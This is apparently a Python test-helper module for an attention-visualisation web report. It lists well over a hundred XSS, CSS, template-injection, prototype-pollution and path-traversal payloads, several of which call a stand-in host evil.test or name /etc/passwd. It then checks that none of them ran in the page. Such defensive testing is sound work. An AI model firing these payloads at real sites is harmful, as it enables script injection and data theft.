"""Text that would like to be markup, script or chaos: payloads by kind, and what shows that none of them did anything.

Whatever runs sets `window.pwned`, opens a dialog or asks a server for something: `assert_nothing_ran` finds out. A new
place where readers can put text into a page (notes, say) joins in with one line: its key of the address in
`ADDRESS_KEYS`, or what a script does to show it in `WALKS`.
"""

from __future__ import annotations

from collections.abc import Sequence
from typing import Any

__all__ = ["ADDRESS_KEYS", "KINDS", "PAYLOADS", "WALKS", "assert_nothing_ran", "plain_places", "walk", "walk_addresses"]

KINDS: dict[str, tuple[str, ...]] = {
    "script": (
        "<script>pwned=1</script>",
        "<SCRIPT>pwned=1</SCRIPT>",
        "<ScRiPt>pwned=1</sCrIpT>",
        "<script\t>pwned=1</script\t>",
        "<script\n>pwned=1</script\n>",
        "<script/x>pwned=1</script/x>",
        "<script src=https://evil.test/a.js></script>",
        "<script src=//evil.test/b.js></script>",
        "<script src='data:text/javascript,pwned=1'></script>",
        "<script type=module>pwned=1</script>",
        "<script defer src=data:,pwned=1></script>",
        "<script>pwned=1//",
        "<scr<script>ipt>pwned=1</scr</script>ipt>",
        "<<script>pwned=1</script>",
        "<script>/*</script><script>*/pwned=1</script>",
        "<script nonce=x>pwned=1</script>",
        "<noscript><p title='</noscript><script>pwned=1</script>'>",
    ),
    "end of script": (
        "</script><script>pwned=1</script>",
        "</SCRIPT><SCRIPT>pwned=1</SCRIPT>",
        "</ScRiPt ><script>pwned=1</script>",
        "</script\n><img src=x onerror=pwned=1>",
        "</script\t/><img src=x onerror=pwned=1>",
        "</script/><svg onload=pwned=1>",
        "</script",
        "</script ",
        "</SCRIPT\x0c><script>pwned=1</script>",
        "<!--<script>",
        "<!--<script></script>-->",
        "<!-- <script> <!-- </script> -->",
        "<\\/script><script>pwned=1</script>",
        "\\u003c/script\\u003e\\u003cscript\\u003epwned=1",
    ),
    "end of other elements": (
        "</style><script>pwned=1</script>",
        "</STYLE><svg onload=pwned=1>",
        "</title><script>pwned=1</script>",
        "</TiTlE><img src=x onerror=pwned=1>",
        "</textarea><script>pwned=1</script>",
        "</noscript><script>pwned=1</script>",
        "</bdi><script>pwned=1</script>",
        "</p></main></body></html><script>pwned=1</script>",
        "</template><img src=x onerror=pwned=1>",
        "</option></select><img src=x onerror=pwned=1>",
        "</svg><script>pwned=1</script>",
        "</iframe><script>pwned=1</script>",
        "</plaintext><script>pwned=1</script>",
        "</xmp><img src=x onerror=pwned=1>",
    ),
    "style": (
        "<style>*{background:url(https://evil.test/c)}</style>",
        "<style>@import 'https://evil.test/d.css';</style>",
        "<STYLE>body{display:none}</STYLE>",
        "<link rel=stylesheet href=https://evil.test/e.css>",
        "<link rel=prefetch href=https://evil.test/f>",
        "<div style=background:url(https://evil.test/g)>",
        "<p style=position:fixed;inset:0;z-index:9999999>",
        "}*{background:url(https://evil.test/h)}",
        "*/}body{display:none}/*",
        "expression(pwned=1)",
    ),
    "images and media": (
        "<img src=x onerror=pwned=1>",
        "<IMG SRC=x ONERROR=pwned=1>",
        "<img src=https://evil.test/i.png>",
        "<img/src=x/onerror=pwned=1>",
        "<img src=x onerror='pwned=1'>",
        '<img src=x onerror="pwned=1">',
        "<img src=x onerror=`pwned=1`>",
        "<img src=x\nonerror\n=\npwned=1>",
        "<img srcset='https://evil.test/j 1x'>",
        "<img src=x:x onerror=alert(1)//",
        "<image src=x onerror=pwned=1>",
        "<picture><source srcset=https://evil.test/k><img></picture>",
        "<video src=x onerror=pwned=1></video>",
        "<video><source onerror=pwned=1></video>",
        "<video poster=https://evil.test/l></video>",
        "<audio src=x onerror=pwned=1>",
        "<body background=https://evil.test/m>",
        "<input type=image src=x onerror=pwned=1>",
    ),
    "svg and math": (
        "<svg onload=pwned=1>",
        "<svg/onload=pwned=1>",
        "<SVG ONLOAD=pwned=1></SVG>",
        "<svg><script>pwned=1</script></svg>",
        "<svg><script href=data:,pwned=1></script></svg>",
        "<svg><animate onbegin=pwned=1 attributeName=x dur=1s>",
        "<svg><a xlink:href='javascript:pwned=1'><text>x</text></a></svg>",
        "<svg><use href='data:image/svg+xml,<svg id=x onload=pwned=1>#x'/></svg>",
        "<svg><foreignObject><img src=x onerror=pwned=1></foreignObject></svg>",
        "<svg><style><img src=x onerror=pwned=1></style></svg>",
        "<svg></p><style><a id='</style><img src=x onerror=pwned=1>'>",
        "<math><mtext><table><mglyph><style><img src=x onerror=pwned=1>",
        "<math href='javascript:pwned=1'>x</math>",
        "<svg><set attributeName=onmouseover to=pwned=1>",
    ),
    "frames and objects": (
        "<iframe src='javascript:parent.pwned=1'></iframe>",
        "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
        '<iframe srcdoc="<img src=x onerror=parent.pwned=1>"></iframe>',
        "<iframe srcdoc=&lt;script&gt;parent.pwned=1&lt;/script&gt;></iframe>",
        "<iframe onload=pwned=1></iframe>",
        "<iframe src=https://evil.test/n></iframe>",
        "<object data='javascript:pwned=1'></object>",
        "<object data=https://evil.test/o></object>",
        "<embed src='javascript:pwned=1'>",
        "<applet code=x>",
        "<frameset onload=pwned=1>",
        "<portal src=https://evil.test/p>",
        '"></iframe><script>pwned=1</script>',
        "'></iframe><script>pwned=1</script>",
        "&quot;&gt;&lt;script&gt;parent.pwned=1&lt;/script&gt;",
    ),
    "event handlers": (
        "<body onload=pwned=1>",
        "<b onmouseover=pwned=1>x</b>",
        "<input autofocus onfocus=pwned=1>",
        "<select autofocus onfocus=pwned=1>",
        "<textarea autofocus onfocus=pwned=1>",
        "<details open ontoggle=pwned=1>",
        "<marquee onstart=pwned=1>x</marquee>",
        "<div contenteditable onblur=pwned=1 autofocus>",
        "<p onpointerenter=pwned=1>x",
        "<form onsubmit=pwned=1><button autofocus>x",
        "<x onclick=pwned=1>x</x>",
        "<a onfocus=pwned=1 id=x tabindex=0>",
        "<style onload=pwned=1></style>",
        "<dialog open onclose=pwned=1>",
        "<b popover onbeforetoggle=pwned=1>x</b>",
    ),
    "attributes": (
        '" onmouseover="pwned=1',
        "' onmouseover='pwned=1",
        "` onmouseover=`pwned=1",
        " onmouseover=pwned=1 ",
        '"><script>pwned=1</script>',
        "'><script>pwned=1</script>",
        "`><script>pwned=1</script>",
        "><script>pwned=1</script>",
        '" autofocus onfocus=pwned=1 x="',
        "' style='position:fixed;inset:0' x='",
        '"/onload=pwned=1//',
        "&#34; onclick=&#34;pwned=1",
        '\\" onclick=pwned=1 x=\\"',
        '" srcdoc="<script>parent.pwned=1</script>',
        '" sandbox="allow-same-origin allow-scripts',
    ),
    "addresses": (
        "javascript:pwned=1",
        "JaVaScRiPt:pwned=1",
        "java\tscript:pwned=1",
        "java\nscript:pwned=1",
        " javascript:pwned=1",
        "\x01javascript:pwned=1",
        "javascript://%0apwned=1",
        "data:text/html,<script>pwned=1</script>",
        "data:text/html;base64,PHNjcmlwdD5wd25lZD0xPC9zY3JpcHQ+",
        "vbscript:pwned=1",
        "<a href=javascript:pwned=1 autofocus>x</a>",
        "<a href='&#106;avascript:pwned=1'>x</a>",
        "<form action=javascript:pwned=1><button>x",
        "<button formaction=javascript:pwned=1>x",
        "<base href=https://evil.test/>",
        "<meta http-equiv=refresh content='0;url=https://evil.test/q'>",
        "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
        "#tour=word&view=<img src=x onerror=pwned=1>",
        "../../../../etc/passwd%00.html",
    ),
    "comments and sections": (
        "<!--",
        "-->",
        "--!><script>pwned=1</script>",
        "<!--><script>pwned=1</script>",
        "<!---><img src=x onerror=pwned=1>-->",
        "<![CDATA[",
        "]]>",
        "]]><script>pwned=1</script>",
        "<![CDATA[<script>pwned=1</script>]]>",
        "<?xml version='1.0'?><script>pwned=1</script>",
        "<?php pwned() ?>",
        "<%= pwned %>",
        "<!DOCTYPE html><script>pwned=1</script>",
        "<!ENTITY x SYSTEM 'https://evil.test/r'>",
    ),
    "templates and JSON": (
        "{{ 7 * 7 }}",
        "{{ ''.__class__.__mro__ }}",
        "{% include '/etc/passwd' %}",
        "{# comment #}",
        "{%- endraw %}{{ 1 }}",
        "${pwned=1}",
        "#{pwned=1}",
        "`${pwned=1}`",
        "%(pwned)s {pwned} {0} %s",
        '"}, "pwned": {"x": "',
        '"]]}</script><script>pwned=1</script>',
        "\\",
        '\\"',
        "\\u2028",
        "__proto__",
        "constructor",
        "toString",
        '{"__proto__":{"pwned":1}}',
        "');pwned=1;//",
        '";pwned=1;//',
        "\\');pwned=1;//",
        "eval(atob('cHduZWQ9MQ=='))",
        "NaN",
    ),
    "code fences": (
        "```",
        "```html\n<script>pwned=1</script>\n```",
        "~~~\n<img src=x onerror=pwned=1>",
        "[x](javascript:pwned=1)",
        "![x](https://evil.test/s.png)",
        "<https://evil.test/t>",
        "\\end{verbatim}\\input{/etc/passwd}",
        "\\href{javascript:pwned=1}{x}",
        "$\\frac{1}{0}$",
        "$$\\unicode{x3cscript}$$",
        "\\(\\style{background:url(https://evil.test/u)}{x}\\)",
    ),
    "entities": (
        "&lt;script&gt;pwned=1&lt;/script&gt;",
        "&#60;script&#62;pwned=1&#60;/script&#62;",
        "&#x3c;img src=x onerror=pwned=1&#x3e;",
        "&amp;lt;b&amp;gt;",
        "&ltscript&gtpwned=1",
        "&NewLine;&Tab;&colon;",
        "&#0;&#xD800;&#x110000;",
        "+ADw-script+AD4-pwned=1+ADw-/script+AD4-",
        "%3Cscript%3Epwned=1%3C/script%3E",
        "%253Cscript%253E",
    ),
    "what cannot be seen": (
        "\u2028pwned=1//",
        "\u2029pwned=1//",
        "a\u2028</script><script>pwned=1</script>\u2029",
        "\x00",
        "<\x00script>pwned=1</script>",
        "<scr\x00ipt>pwned=1</scr\x00ipt>",
        "\u202e<script>pwned=1</script>\u202c",
        "\u2066\u2067<img src=x onerror=pwned=1>\u2069",
        "\u200b<script\u200b>pwned=1</script>",
        "\ufeff<script>pwned=1</script>",
        "\x1b[31mred\x1b]8;;https://evil.test\x07x",
        "\ud800<script>pwned=1</script>",
        "e\u0301\u0301\u0301<b>x</b>",
        "\uff1cscript\uff1epwned=1\uff1c/script\uff1e",
        "\U0001f469\u200d\U0001f469\u200d\U0001f467<b>x</b>",
        "\u05e9\u05dc\u05d5\u05dd<i>\u0645\u0631\u062d\u0628\u0627</i>",
        "\x7f\x80\x9f\x0b\x0c",
        "\ufffe\uffff",
    ),
}
PAYLOADS = tuple(dict.fromkeys(payload for kind in KINDS.values() for payload in kind))

ADDRESS_KEYS = (
    *("chosen", "layer", "head", "measure", "alignment", "hide", "sides", "scale", "gamma", "cutoff", "theme"),
    *("observed", "observer", "pair", "order", "lines", "area", "shades", "pool", "against", "unit", "tour"),
    *("__proto__", "constructor"),
)
"""What an address may say; the view comes first in it."""

WALKS: dict[str, str] = {
    "why": """async (tick, every) => {
      const texts = document.querySelectorAll("#view-why [data-token]");
      for (let token = 0; token < texts.length; token += every) {
        texts[token].click();
        await tick();
      }
      for (const each of document.querySelectorAll("#why-bars button, #view-why details, #edges button")) {
        each.open = true;
        each.click();
        await tick();
      }
    }""",
    "looked": """async (tick, every) => {
      const count = document.querySelectorAll("#view-looked [data-view=observer] [data-token]").length;
      for (let token = 0; token < count; token += 1) {
        if (token % every === every - 1) {
          await attViz.select({ view: token % 2 ? "observer" : "observed", token, frozen: true });
        }
      }
      await tick();
    }""",
    "heads": """async (tick, every) => {
      const tokens = [...document.querySelectorAll("#find-text [data-token]")];
      for (let place = 0; place + 1 < tokens.length; place += 6 * every + 1) {
        tokens[place + 1].click();
        await tick();
        tokens[place].click();
        await tick();
      }
      const table = document.getElementById("roles-table");
      table.open = true;
      for (const cell of [...document.querySelectorAll(".head-cell")].slice(0, 4)) {
        cell.dispatchEvent(new PointerEvent("pointerover", { bubbles: true }));
        cell.focus();
        await tick();
      }
    }""",
    "matrix": """async (tick) => {
      const canvas = document.querySelector("#view-matrix canvas");
      const box = canvas.getBoundingClientRect();
      for (let step = 0; step < 60; step += 1) {
        const [clientX, clientY] = [box.left + (box.width * step) / 90, box.top + (box.height * step) / 60];
        canvas.dispatchEvent(new PointerEvent("pointermove", { clientX, clientY, bubbles: true }));
        await tick();
      }
    }""",
    "layers": """async (tick, every) => {
      const count = JSON.parse(document.getElementById("att-viz-page").textContent).texts.length;
      for (let token = 1; token < count; token += 2 * every + 1) {
        await attViz.layers(token);
        await tick();
      }
    }""",
    "lines": """async (tick, every) => {
      const tokens = document.querySelectorAll("#lines-queries span, #lines-keys span");
      for (let place = 0; place < tokens.length; place += 2 * every + 1) {
        tokens[place].dispatchEvent(new PointerEvent("pointerover", { bubbles: true }));
        await tick();
      }
    }""",
}
"""What a script does in each view so that texts are written everywhere."""

_WALK = """async ([view, every]) => {
  await attViz.show(view);
  const tick = () => new Promise((done) => setTimeout(done, 0));
  await WALK(tick, every);
  await tick();
}"""
_ADDRESSES = """async (addresses) => {
  for (const address of addresses) {
    const changed = new Promise((done) => addEventListener("hashchange", done, { once: true }));
    const before = location.hash;
    location.hash = address;
    if (location.hash !== before) {
      await changed;
    }
    await new Promise((done) => setTimeout(done, 0));
  }
  return JSON.stringify(attViz.state);
}"""
_FOUND = """() => {
  const found = [];
  const foreign = new Set(["img", "image", "iframe", "object", "embed", "video", "audio", "form", "base", "marquee",
    "math", "template", "textarea", "frameset", "applet", "portal", "link", "picture", "source", "xmp", "plaintext",
    "foreignObject", "dialog", "animate", "set", "use", "x"]);
  for (const element of document.querySelectorAll("*")) {
    if (foreign.has(element.localName)) {
      found.push("<" + element.localName + ">");
    }
    for (const { name, value } of element.attributes) {
      const leads = /^(href|src|srcset|action|formaction|xlink:href|data|poster|background)$/u.test(name);
      const leadsAway = leads && /javascript:|vbscript:|data:|evil\\.test/iu.test(value);
      if (/^on/iu.test(name) || name === "srcdoc" || leadsAway) {
        found.push(name + "=" + value);
      }
    }
  }
  const inert = "[type='text/plain'], [type='application/json']";
  const scripts = [...document.scripts].filter((script) => !script.matches(inert));
  for (const script of scripts.filter((each) => /pwned/u.test(each.textContent))) {
    found.push("script: " + script.textContent.slice(0, 60));
  }
  if ("pwned" in window || {}.pwned !== undefined) {
    found.push("window.pwned");
  }
  return [...found, ...(window.seenViolations ?? [])];
}"""


def plain_places(texts: Sequence[str]) -> list[int]:
    """The places of texts that a page shows letter by letter, without marks and chips."""
    return [place for place, text in enumerate(texts) if text.isprintable() and text.strip() and text.isascii()]


def walk(frame: Any, views: Sequence[str] | None = None, every: int = 1) -> None:
    """Go through the views of a report (all of its own by default), and in them choose one token of so many."""
    for view in views or frame.evaluate("attViz.views.map((each) => each.id)"):
        frame.evaluate(_WALK.replace("WALK", f"({WALKS[view]})"), [view, every])


def walk_addresses(frame: Any, addresses: Sequence[str]) -> str:
    """Set one address after another; returns the page's state at the end, as JSON."""
    state: str = frame.evaluate(_ADDRESSES, list(addresses))
    return state


def assert_nothing_ran(frame: Any) -> None:
    """No element, attribute or script of a payload is in the page, none has run, and the policy has refused nothing."""
    assert frame.evaluate(_FOUND) == []
